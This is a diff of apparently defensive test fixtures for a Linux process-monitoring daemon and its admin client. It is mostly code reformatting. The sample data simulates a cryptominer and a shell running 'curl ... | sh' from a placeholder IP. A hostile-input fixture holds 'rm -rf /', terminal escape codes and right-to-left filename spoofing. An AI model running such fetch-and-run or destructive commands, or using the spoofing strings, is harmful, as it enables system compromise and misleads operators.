@@ -57,18 +57,47 @@ class FrozenClock:
         self.now += seconds
 
 
-def proc(pid: int, ppid: int, name: str, cmdline: Iterable[str] = (), *, started: float,
-         user: str | None = "root", uid: int | None = 0, exe: str | None = None,
-         cpu: float = 0.0, rss: int = 4 << 20, cwd: str | None = "/", state: str = "S",
-         threads: int = 1, deleted: bool = False, sha: str | None = None) -> ProcessRecord:
+def proc(
+    pid: int,
+    ppid: int,
+    name: str,
+    cmdline: Iterable[str] = (),
+    *,
+    started: float,
+    user: str | None = "root",
+    uid: int | None = 0,
+    exe: str | None = None,
+    cpu: float = 0.0,
+    rss: int = 4 << 20,
+    cwd: str | None = "/",
+    state: str = "S",
+    threads: int = 1,
+    deleted: bool = False,
+    sha: str | None = None,
+) -> ProcessRecord:
     """A live record; `started` is seconds before FAKE_NOW."""
     start_time = FAKE_NOW - started
     args = tuple(cmdline)
     return ProcessRecord(
-        pid=pid, ppid=ppid, start_time=start_time, name=name,
-        exe=exe if exe is not None or not args else args[0], cmdline=args, cwd=cwd,
-        uid=uid, user=user, gid=uid, state=state, threads=threads, rss=rss, cpu_percent=cpu,
-        exe_sha256=sha, exe_deleted=deleted, first_seen=start_time, last_seen=FAKE_NOW)
+        pid=pid,
+        ppid=ppid,
+        start_time=start_time,
+        name=name,
+        exe=exe if exe is not None or not args else args[0],
+        cmdline=args,
+        cwd=cwd,
+        uid=uid,
+        user=user,
+        gid=uid,
+        state=state,
+        threads=threads,
+        rss=rss,
+        cpu_percent=cpu,
+        exe_sha256=sha,
+        exe_deleted=deleted,
+        first_seen=start_time,
+        last_seen=FAKE_NOW,
+    )
 
 
 _SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
@@ -81,111 +110,328 @@ def sample_processes() -> tuple[ProcessRecord, ...]:
         proc(1, 0, "systemd", ["/sbin/init", "splash"], started=3 * day, rss=12 << 20, sha=_SHA),
         proc(2, 0, "kthreadd", started=3 * day, exe=None, rss=0, cwd=None),
         proc(14, 2, "kworker/0:1", started=3 * day, exe=None, rss=0, cwd=None, state="I"),
-        proc(412, 1, "systemd-journal", ["/lib/systemd/systemd-journald"], started=3 * day,
-             rss=38 << 20, cpu=0.3, sha=_SHA),
+        proc(
+            412,
+            1,
+            "systemd-journal",
+            ["/lib/systemd/systemd-journald"],
+            started=3 * day,
+            rss=38 << 20,
+            cpu=0.3,
+            sha=_SHA,
+        ),
         proc(640, 1, "cron", ["/usr/sbin/cron", "-f"], started=3 * day, rss=3 << 20),
-        proc(812, 1, "sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
-             exe="/usr/sbin/sshd", started=3 * day, rss=9 << 20, sha=_SHA),
-        proc(1033, 1, "nginx", ["nginx: master process /usr/sbin/nginx -g daemon on;"],
-             exe="/usr/sbin/nginx", started=2 * day, rss=6 << 20),
-        proc(1034, 1033, "nginx", ["nginx: worker process"], exe="/usr/sbin/nginx",
-             started=2 * day, user="www-data", uid=33, rss=14 << 20, cpu=1.2),
-        proc(1035, 1033, "nginx", ["nginx: worker process"], exe="/usr/sbin/nginx",
-             started=2 * day, user="www-data", uid=33, rss=13 << 20, cpu=0.8),
-        proc(1200, 1, "postgres", ["/usr/lib/postgresql/15/bin/postgres", "-D",
-                                   "/var/lib/postgresql/15/main"], started=2 * day,
-             user="postgres", uid=112, rss=210 << 20, cpu=2.5, cwd="/var/lib/postgresql"),
-        proc(1530, 1, "dockerd", ["/usr/bin/dockerd", "-H", "fd://"], started=2 * day,
-             rss=96 << 20, cpu=0.6, threads=24),
-        proc(2301, 812, "sshd", ["sshd: alice [priv]"], exe="/usr/sbin/sshd", started=5400,
-             rss=10 << 20),
-        proc(2320, 2301, "bash", ["-bash"], exe="/usr/bin/bash", started=5390, user="alice",
-             uid=1000, cwd="/home/alice", rss=5 << 20),
-        proc(2411, 2320, "vim", ["vim", "/etc/nginx/sites-enabled/default"],
-             exe="/usr/bin/vim.basic", started=1200, user="alice", uid=1000,
-             cwd="/home/alice", rss=11 << 20),
-        proc(2590, 2320, "python3", ["python3", "-m", "http.server", "8000"],
-             exe="/usr/bin/python3.11", started=600, user="alice", uid=1000,
-             cwd="/home/alice/www", rss=22 << 20, cpu=0.1),
-        proc(3100, 1, "xmrig", ["/tmp/.x/kthreadd", "-o", "pool.example:3333", "--donate=0"],
-             exe="/tmp/.x/kthreadd", started=300, user="www-data", uid=33, cwd="/tmp/.x",
-             rss=310 << 20, cpu=96.4, threads=8, deleted=True, state="R"),
-        proc(3101, 3100, "sh", ["sh", "-c", "curl -s http://203.0.113.9/x | sh"],
-             exe="/usr/bin/dash", started=120, user="www-data", uid=33, cwd="/tmp/.x",
-             rss=1 << 20),
+        proc(
+            812,
+            1,
+            "sshd",
+            ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
+            exe="/usr/sbin/sshd",
+            started=3 * day,
+            rss=9 << 20,
+            sha=_SHA,
+        ),
+        proc(
+            1033,
+            1,
+            "nginx",
+            ["nginx: master process /usr/sbin/nginx -g daemon on;"],
+            exe="/usr/sbin/nginx",
+            started=2 * day,
+            rss=6 << 20,
+        ),
+        proc(
+            1034,
+            1033,
+            "nginx",
+            ["nginx: worker process"],
+            exe="/usr/sbin/nginx",
+            started=2 * day,
+            user="www-data",
+            uid=33,
+            rss=14 << 20,
+            cpu=1.2,
+        ),
+        proc(
+            1035,
+            1033,
+            "nginx",
+            ["nginx: worker process"],
+            exe="/usr/sbin/nginx",
+            started=2 * day,
+            user="www-data",
+            uid=33,
+            rss=13 << 20,
+            cpu=0.8,
+        ),
+        proc(
+            1200,
+            1,
+            "postgres",
+            ["/usr/lib/postgresql/15/bin/postgres", "-D", "/var/lib/postgresql/15/main"],
+            started=2 * day,
+            user="postgres",
+            uid=112,
+            rss=210 << 20,
+            cpu=2.5,
+            cwd="/var/lib/postgresql",
+        ),
+        proc(
+            1530,
+            1,
+            "dockerd",
+            ["/usr/bin/dockerd", "-H", "fd://"],
+            started=2 * day,
+            rss=96 << 20,
+            cpu=0.6,
+            threads=24,
+        ),
+        proc(
+            2301,
+            812,
+            "sshd",
+            ["sshd: alice [priv]"],
+            exe="/usr/sbin/sshd",
+            started=5400,
+            rss=10 << 20,
+        ),
+        proc(
+            2320,
+            2301,
+            "bash",
+            ["-bash"],
+            exe="/usr/bin/bash",
+            started=5390,
+            user="alice",
+            uid=1000,
+            cwd="/home/alice",
+            rss=5 << 20,
+        ),
+        proc(
+            2411,
+            2320,
+            "vim",
+            ["vim", "/etc/nginx/sites-enabled/default"],
+            exe="/usr/bin/vim.basic",
+            started=1200,
+            user="alice",
+            uid=1000,
+            cwd="/home/alice",
+            rss=11 << 20,
+        ),
+        proc(
+            2590,
+            2320,
+            "python3",
+            ["python3", "-m", "http.server", "8000"],
+            exe="/usr/bin/python3.11",
+            started=600,
+            user="alice",
+            uid=1000,
+            cwd="/home/alice/www",
+            rss=22 << 20,
+            cpu=0.1,
+        ),
+        proc(
+            3100,
+            1,
+            "xmrig",
+            ["/tmp/.x/kthreadd", "-o", "pool.example:3333", "--donate=0"],
+            exe="/tmp/.x/kthreadd",
+            started=300,
+            user="www-data",
+            uid=33,
+            cwd="/tmp/.x",
+            rss=310 << 20,
+            cpu=96.4,
+            threads=8,
+            deleted=True,
+            state="R",
+        ),
+        proc(
+            3101,
+            3100,
+            "sh",
+            ["sh", "-c", "curl -s http://203.0.113.9/x | sh"],
+            exe="/usr/bin/dash",
+            started=120,
+            user="www-data",
+            uid=33,
+            cwd="/tmp/.x",
+            rss=1 << 20,
+        ),
     )
 
 
 def sample_alerts() -> tuple[Alert, ...]:
     return (
-        Alert(id=7, rule_id="exe-deleted", severity="critical",
-              title="xmrig (3100) runs a deleted executable /tmp/.x/kthreadd", pid=3100,
-              start_time=FAKE_NOW - 300, first_seen=FAKE_NOW - 290, last_seen=FAKE_NOW - 10,
-              count=12, state="open", state_changed_at=None, state_changed_by=None, row=()),
-        Alert(id=8, rule_id="shell-from-web", severity="high",
-              title="sh (3101) spawned by a process of www-data", pid=3101,
-              start_time=FAKE_NOW - 120, first_seen=FAKE_NOW - 118, last_seen=FAKE_NOW - 118,
-              count=1, state="open", state_changed_at=None, state_changed_by=None, row=()),
-        Alert(id=5, rule_id="exec-from-tmp", severity="medium",
-              title="xmrig (3100) executes from /tmp", pid=3100, start_time=FAKE_NOW - 300,
-              first_seen=FAKE_NOW - 295, last_seen=FAKE_NOW - 60, count=3,
-              state="acknowledged", state_changed_at=FAKE_NOW - 30,
-              state_changed_by="uid 0 pid 4242", row=()),
-        Alert(id=3, rule_id="listening-python", severity="low",
-              title="python3 (2590) serves HTTP from a home directory", pid=2590,
-              start_time=FAKE_NOW - 600, first_seen=FAKE_NOW - 590, last_seen=FAKE_NOW - 590,
-              count=1, state="open", state_changed_at=None, state_changed_by=None, row=()),
-        Alert(id=1, rule_id="new-suid", severity="info", title="sudo (1999) ran as root",
-              pid=1999, start_time=FAKE_NOW - 7200, first_seen=FAKE_NOW - 7200,
-              last_seen=FAKE_NOW - 7200, count=1, state="closed",
-              state_changed_at=FAKE_NOW - 7000, state_changed_by="uid 0 pid 1", row=()),
+        Alert(
+            id=7,
+            rule_id="exe-deleted",
+            severity="critical",
+            title="xmrig (3100) runs a deleted executable /tmp/.x/kthreadd",
+            pid=3100,
+            start_time=FAKE_NOW - 300,
+            first_seen=FAKE_NOW - 290,
+            last_seen=FAKE_NOW - 10,
+            count=12,
+            state="open",
+            state_changed_at=None,
+            state_changed_by=None,
+            row=(),
+        ),
+        Alert(
+            id=8,
+            rule_id="shell-from-web",
+            severity="high",
+            title="sh (3101) spawned by a process of www-data",
+            pid=3101,
+            start_time=FAKE_NOW - 120,
+            first_seen=FAKE_NOW - 118,
+            last_seen=FAKE_NOW - 118,
+            count=1,
+            state="open",
+            state_changed_at=None,
+            state_changed_by=None,
+            row=(),
+        ),
+        Alert(
+            id=5,
+            rule_id="exec-from-tmp",
+            severity="medium",
+            title="xmrig (3100) executes from /tmp",
+            pid=3100,
+            start_time=FAKE_NOW - 300,
+            first_seen=FAKE_NOW - 295,
+            last_seen=FAKE_NOW - 60,
+            count=3,
+            state="acknowledged",
+            state_changed_at=FAKE_NOW - 30,
+            state_changed_by="uid 0 pid 4242",
+            row=(),
+        ),
+        Alert(
+            id=3,
+            rule_id="listening-python",
+            severity="low",
+            title="python3 (2590) serves HTTP from a home directory",
+            pid=2590,
+            start_time=FAKE_NOW - 600,
+            first_seen=FAKE_NOW - 590,
+            last_seen=FAKE_NOW - 590,
+            count=1,
+            state="open",
+            state_changed_at=None,
+            state_changed_by=None,
+            row=(),
+        ),
+        Alert(
+            id=1,
+            rule_id="new-suid",
+            severity="info",
+            title="sudo (1999) ran as root",
+            pid=1999,
+            start_time=FAKE_NOW - 7200,
+            first_seen=FAKE_NOW - 7200,
+            last_seen=FAKE_NOW - 7200,
+            count=1,
+            state="closed",
+            state_changed_at=FAKE_NOW - 7000,
+            state_changed_by="uid 0 pid 1",
+            row=(),
+        ),
     )
 
 
-def _rule(rule_id: str, severity: str, line: int, *, enabled: bool = True,
-          file: str = "/usr/lib/daemoneye/rules/builtin.toml", name: str = "",
-          tags: tuple[str, ...] = ()) -> Rule:
-    return Rule(id=rule_id, name=name or rule_id.replace("-", " "),
-                description=f"Detects {rule_id.replace('-', ' ')}.", severity=severity,
-                enabled=enabled, tags=tags,
-                query="SELECT pid, start_time, name FROM live_processes WHERE exe_deleted",
-                title="{name} ({pid})", dedup_window_s=None, throttle_s=None,
-                source_file=file, source_line=line)
+def _rule(
+    rule_id: str,
+    severity: str,
+    line: int,
+    *,
+    enabled: bool = True,
+    file: str = "/usr/lib/daemoneye/rules/builtin.toml",
+    name: str = "",
+    tags: tuple[str, ...] = (),
+) -> Rule:
+    return Rule(
+        id=rule_id,
+        name=name or rule_id.replace("-", " "),
+        description=f"Detects {rule_id.replace('-', ' ')}.",
+        severity=severity,
+        enabled=enabled,
+        tags=tags,
+        query="SELECT pid, start_time, name FROM live_processes WHERE exe_deleted",
+        title="{name} ({pid})",
+        dedup_window_s=None,
+        throttle_s=None,
+        source_file=file,
+        source_line=line,
+    )
 
 
 def sample_rules() -> tuple[RuleStatus, ...]:
     local = "/home/alice/.config/daemoneye/rules.d/local.toml"
     return (
-        RuleStatus(_rule("exe-deleted", "critical", 1, tags=("T1070.004",)), 12,
-                   FAKE_NOW - 10, ()),
-        RuleStatus(_rule("shell-from-web", "high", 14, tags=("T1505.003",)), 1,
-                   FAKE_NOW - 118, ()),
+        RuleStatus(_rule("exe-deleted", "critical", 1, tags=("T1070.004",)), 12, FAKE_NOW - 10, ()),
+        RuleStatus(_rule("shell-from-web", "high", 14, tags=("T1505.003",)), 1, FAKE_NOW - 118, ()),
         RuleStatus(_rule("exec-from-tmp", "medium", 27), 3, FAKE_NOW - 60, ()),
         RuleStatus(_rule("listening-python", "low", 3, file=local), 1, FAKE_NOW - 590, ()),
         RuleStatus(_rule("new-suid", "info", 40, enabled=False), 1, FAKE_NOW - 7200, ()),
-        RuleStatus(_rule("ssh-brute", "high", 9, file=local), 0, None, (
-            RuleProblem(local, 12, "ssh-brute", "no such column: login_failures"),)),
+        RuleStatus(
+            _rule("ssh-brute", "high", 9, file=local),
+            0,
+            None,
+            (RuleProblem(local, 12, "ssh-brute", "no such column: login_failures"),),
+        ),
     )
 
 
 def sample_status(now: float = FAKE_NOW) -> DaemonStatus:
-    engine = EngineStatus(rules_active=5, rules_rejected=1, last_reload_at=now - 3600,
-                          last_reload_error=None, alerts_open=3, sink_backlog=0)
+    engine = EngineStatus(
+        rules_active=5,
+        rules_rejected=1,
+        last_reload_at=now - 3600,
+        last_reload_error=None,
+        alerts_open=3,
+        sink_backlog=0,
+    )
     return DaemonStatus(sample_health(now), clients=2, engine=engine)
 
 
 def sample_health(now: float = FAKE_NOW) -> HealthReport:
     return HealthReport(
-        daemon_pid=4242, daemon_uid=0, version="0.1.0", mode="system", privileged=True,
-        event_source="netlink", started_at=now - 3 * 86400 + 60, updated_at=now - 0.4,
-        interval_s=1.0, ticks=259140, last_scan_ms=18.4, avg_scan_ms=16.9, processes=17,
-        new_per_second=2.4, denied_total=0, vanished_total=311, hash_dropped_total=0,
-        store_bytes=48 << 20, daemon_cpu_percent=1.7, daemon_rss_bytes=61 << 20)
+        daemon_pid=4242,
+        daemon_uid=0,
+        version="0.1.0",
+        mode="system",
+        privileged=True,
+        event_source="netlink",
+        started_at=now - 3 * 86400 + 60,
+        updated_at=now - 0.4,
+        interval_s=1.0,
+        ticks=259140,
+        last_scan_ms=18.4,
+        avg_scan_ms=16.9,
+        processes=17,
+        new_per_second=2.4,
+        denied_total=0,
+        vanished_total=311,
+        hash_dropped_total=0,
+        store_bytes=48 << 20,
+        daemon_cpu_percent=1.7,
+        daemon_rss_bytes=61 << 20,
+    )
 
 
 def sample_hello(role: str = "admin") -> Hello:
-    return Hello(protocol_version=1, daemon_version="0.1.0", host="web-01", role=role,
-                 peer_uid=0 if role == "admin" else 1000, peer_pid=9000)
+    return Hello(
+        protocol_version=1,
+        daemon_version="0.1.0",
+        host="web-01",
+        role=role,
+        peer_uid=0 if role == "admin" else 1000,
+        peer_pid=9000,
+    )
 
 
 def hostile_processes() -> tuple[ProcessRecord, ...]:
@@ -193,25 +439,65 @@ def hostile_processes() -> tuple[ProcessRecord, ...]:
     huge = "A" * (128 * 1024)
     return (
         proc(1, 0, "systemd", ["/sbin/init"], started=86400),
-        proc(6601, 1, "[red]x[/red]", ["[bold red]rm -rf /[/]", "[link=http://evil]"],
-             started=60, user="[b]root[/b]", exe="/tmp/[red]x[/red]", cwd="/tmp/[i]"),
-        proc(6602, 1, "\x1b[2Jclear", ["\x1b[2J\x1b[H", "\x1b]0;owned\x07"], started=50,
-             exe="/tmp/\x1b[31mred", cwd="/tmp/\x1b[0m"),
-        proc(6603, 1, "line\nbreak", ["echo", "one\ntwo\rthree\tfour"], started=40,
-             user="new\nline"),
-        proc(6604, 1, "\u202egnp.exe", ["\u202egnp.exe", "\u2066isolate\u2069"], started=30,
-             exe="/home/alice/\u202egnp.exe"),
-        proc(6605, 1, "bigcmd", ["python3", "-c", huge], started=20, rss=900 << 20,
-             cpu=12.0),
-        proc(6606, 1, "bad\\xffutf8", ["bad\\xff\\xfeargs", "ok"], started=10,
-             exe="/usr/bin/bad\\xff", cwd="/srv/\\xc3("),
+        proc(
+            6601,
+            1,
+            "[red]x[/red]",
+            ["[bold red]rm -rf /[/]", "[link=http://evil]"],
+            started=60,
+            user="[b]root[/b]",
+            exe="/tmp/[red]x[/red]",
+            cwd="/tmp/[i]",
+        ),
+        proc(
+            6602,
+            1,
+            "\x1b[2Jclear",
+            ["\x1b[2J\x1b[H", "\x1b]0;owned\x07"],
+            started=50,
+            exe="/tmp/\x1b[31mred",
+            cwd="/tmp/\x1b[0m",
+        ),
+        proc(
+            6603, 1, "line\nbreak", ["echo", "one\ntwo\rthree\tfour"], started=40, user="new\nline"
+        ),
+        proc(
+            6604,
+            1,
+            "\u202egnp.exe",
+            ["\u202egnp.exe", "\u2066isolate\u2069"],
+            started=30,
+            exe="/home/alice/\u202egnp.exe",
+        ),
+        proc(6605, 1, "bigcmd", ["python3", "-c", huge], started=20, rss=900 << 20, cpu=12.0),
+        proc(
+            6606,
+            1,
+            "bad\\xffutf8",
+            ["bad\\xff\\xfeargs", "ok"],
+            started=10,
+            exe="/usr/bin/bad\\xff",
+            cwd="/srv/\\xc3(",
+        ),
     )
 
 
 def many_processes(count: int, *, seed: int = 7) -> tuple[ProcessRecord, ...]:
     """`count` processes in a shallow tree, deterministic for a given seed."""
-    names = ("nginx", "postgres", "python3", "node", "java", "bash", "sshd", "redis-server",
-             "containerd-shim", "gunicorn", "celery", "php-fpm")
+    names = (
+        "nginx",
+        "postgres",
+        "python3",
+        "node",
+        "java",
+        "bash",
+        "sshd",
+        "redis-server",
+        "containerd-shim",
+        "gunicorn",
+        "celery",
+        "php-fpm",
+    )
     records = [proc(1, 0, "systemd", ["/sbin/init"], started=3 * 86400)]
     state = seed
     for index in range(count - 1):
@@ -219,16 +505,25 @@ def many_processes(count: int, *, seed: int = 7) -> tuple[ProcessRecord, ...]:
         pid = 100 + index
         name = names[state % len(names)]
         parent = 1 if index < 50 else 100 + (state % 50)
-        records.append(proc(
-            pid, parent, name, [f"/usr/bin/{name}", f"--worker={index}", f"--seed={state}"],
-            started=float(state % 86400), user=("root", "www-data", "alice")[state % 3],
-            uid=(0, 33, 1000)[state % 3], cpu=(state % 1000) / 100.0,
-            rss=(state % 512) << 20))
+        records.append(
+            proc(
+                pid,
+                parent,
+                name,
+                [f"/usr/bin/{name}", f"--worker={index}", f"--seed={state}"],
+                started=float(state % 86400),
+                user=("root", "www-data", "alice")[state % 3],
+                uid=(0, 33, 1000)[state % 3],
+                cpu=(state % 1000) / 100.0,
+                rss=(state % 512) << 20,
+            )
+        )
     return tuple(records)
 
 
-def churn_delta(records: dict[ProcessKey, ProcessRecord], seq: int, *, changed: int,
-                added: int, removed: int) -> ProcessesDelta:
+def churn_delta(
+    records: dict[ProcessKey, ProcessRecord], seq: int, *, changed: int, added: int, removed: int
+) -> ProcessesDelta:
     """A deterministic delta over `records` (which it updates): some processes change cpu and
     rss, some end, some start."""
     keys = list(records)
@@ -236,11 +531,12 @@ def churn_delta(records: dict[ProcessKey, ProcessRecord], seq: int, *, changed: 
     for offset in range(changed):
         key = keys[(seq * 7919 + offset * 31) % len(keys)]
         record = records[key]
-        cpu = ((record.cpu_percent * 7 + seq + offset) % 100.0)
+        cpu = (record.cpu_percent * 7 + seq + offset) % 100.0
         rss = record.rss + ((seq + offset) % 5 - 2) * 4096
         records[key] = dataclasses.replace(record, cpu_percent=cpu, rss=max(rss, 0))
-        change_list.append(ProcessChange(key.pid, key.start_time,
-                                         (("cpu_percent", cpu), ("rss", max(rss, 0)))))
+        change_list.append(
+            ProcessChange(key.pid, key.start_time, (("cpu_percent", cpu), ("rss", max(rss, 0))))
+        )
     gone: list[ProcessKey] = []
     for offset in range(removed):
         key = keys[(seq * 104729 + offset * 613) % len(keys)]
@@ -263,16 +559,24 @@ class FakeSource:
     """An in-memory daemon: serves fixed data, records admin requests, and can drop and
     restore its connection on demand."""
 
-    def __init__(self, processes: Iterable[ProcessRecord] | None = None, *,
-                 alerts: Iterable[Alert] | None = None,
-                 rules: Iterable[RuleStatus] | None = None,
-                 status: DaemonStatus | None = None, hello: Hello | None = None) -> None:
+    def __init__(
+        self,
+        processes: Iterable[ProcessRecord] | None = None,
+        *,
+        alerts: Iterable[Alert] | None = None,
+        rules: Iterable[RuleStatus] | None = None,
+        status: DaemonStatus | None = None,
+        hello: Hello | None = None,
+    ) -> None:
         self.processes: dict[ProcessKey, ProcessRecord] = {
-            r.key: r for r in (sample_processes() if processes is None else processes)}
+            r.key: r for r in (sample_processes() if processes is None else processes)
+        }
         self.alerts: dict[int, Alert] = {
-            a.id: a for a in (sample_alerts() if alerts is None else alerts)}
+            a.id: a for a in (sample_alerts() if alerts is None else alerts)
+        }
         self.rules: dict[str, RuleStatus] = {
-            s.rule.id: s for s in (sample_rules() if rules is None else rules)}
+            s.rule.id: s for s in (sample_rules() if rules is None else rules)
+        }
         self.status = status or sample_status()
         self.hello = hello or sample_hello()
         self.calls: list[tuple[str, tuple[object, ...]]] = []
@@ -310,8 +614,9 @@ class FakeSource:
         if not self.connected:
             raise SourceError("not connected to the daemon")
         if admin and self.hello.role != "admin":
-            raise SourceError(f"permission denied: uid {self.hello.peer_uid} is not an admin",
-                              admin_required=True)
+            raise SourceError(
+                f"permission denied: uid {self.hello.peer_uid} is not an admin", admin_required=True
+            )
 
     async def processes_list(self) -> tuple[ProcessRecord, ...]:
         self._check()
@@ -323,8 +628,9 @@ class FakeSource:
         if record is None:
             return None
         by_row = {row_key(k): r for k, r in self.processes.items()}
-        return ProcessDetail(record, tuple(ancestry(row_key(key), by_row)),
-                             tuple(children(row_key(key), by_row)))
+        return ProcessDetail(
+            record, tuple(ancestry(row_key(key), by_row)), tuple(children(row_key(key), by_row))
+        )
 
     async def alerts_list(self) -> tuple[Alert, ...]:
         self._check()
@@ -336,8 +642,12 @@ class FakeSource:
         alert = self.alerts.get(alert_id)
         if alert is None:
             raise SourceError(f"no alert {alert_id}")
-        changed = dataclasses.replace(alert, state=state, state_changed_at=alert.last_seen,
-                                      state_changed_by=f"uid {self.hello.peer_uid}")
+        changed = dataclasses.replace(
+            alert,
+            state=state,
+            state_changed_at=alert.last_seen,
+            state_changed_by=f"uid {self.hello.peer_uid}",
+        )
         self.alerts[alert_id] = changed
         self.push(changed)
         return changed
@@ -359,7 +669,8 @@ class FakeSource:
         if status is None:
             raise SourceError(f"no rule {rule_id!r}")
         changed = dataclasses.replace(
-            status, rule=dataclasses.replace(status.rule, enabled=enabled))
+            status, rule=dataclasses.replace(status.rule, enabled=enabled)
+        )
         self.rules[rule_id] = changed
         self.push(RulesUpdated(tuple(self.rules.values())))
         return changed
@@ -368,8 +679,7 @@ class FakeSource:
         self._check(admin=True)
         self.calls.append(("rules_reload", ()))
         problems = tuple(p for s in self.rules.values() for p in s.problems)
-        return RulesReload(True, sum(1 for s in self.rules.values() if not s.problems),
-                           problems)
+        return RulesReload(True, sum(1 for s in self.rules.values() if not s.problems), problems)
 
     async def query_run(self, sql: str) -> QueryResult:
         self._check()
@@ -378,8 +688,10 @@ class FakeSource:
             raise SourceError("refused: only one SELECT statement is allowed (line 1)")
         if "no_such" in sql:
             raise SourceError("no such column: no_such (line 1, column 8)")
-        rows = tuple((r.pid, r.name, r.user, round(r.cpu_percent, 1))
-                     for r in sorted(self.processes.values(), key=lambda r: r.pid))
+        rows = tuple(
+            (r.pid, r.name, r.user, round(r.cpu_percent, 1))
+            for r in sorted(self.processes.values(), key=lambda r: r.pid)
+        )
         return QueryResult(("pid", "name", "user", "cpu_percent"), rows, False, 3.2)
 
     async def health(self) -> DaemonStatus:
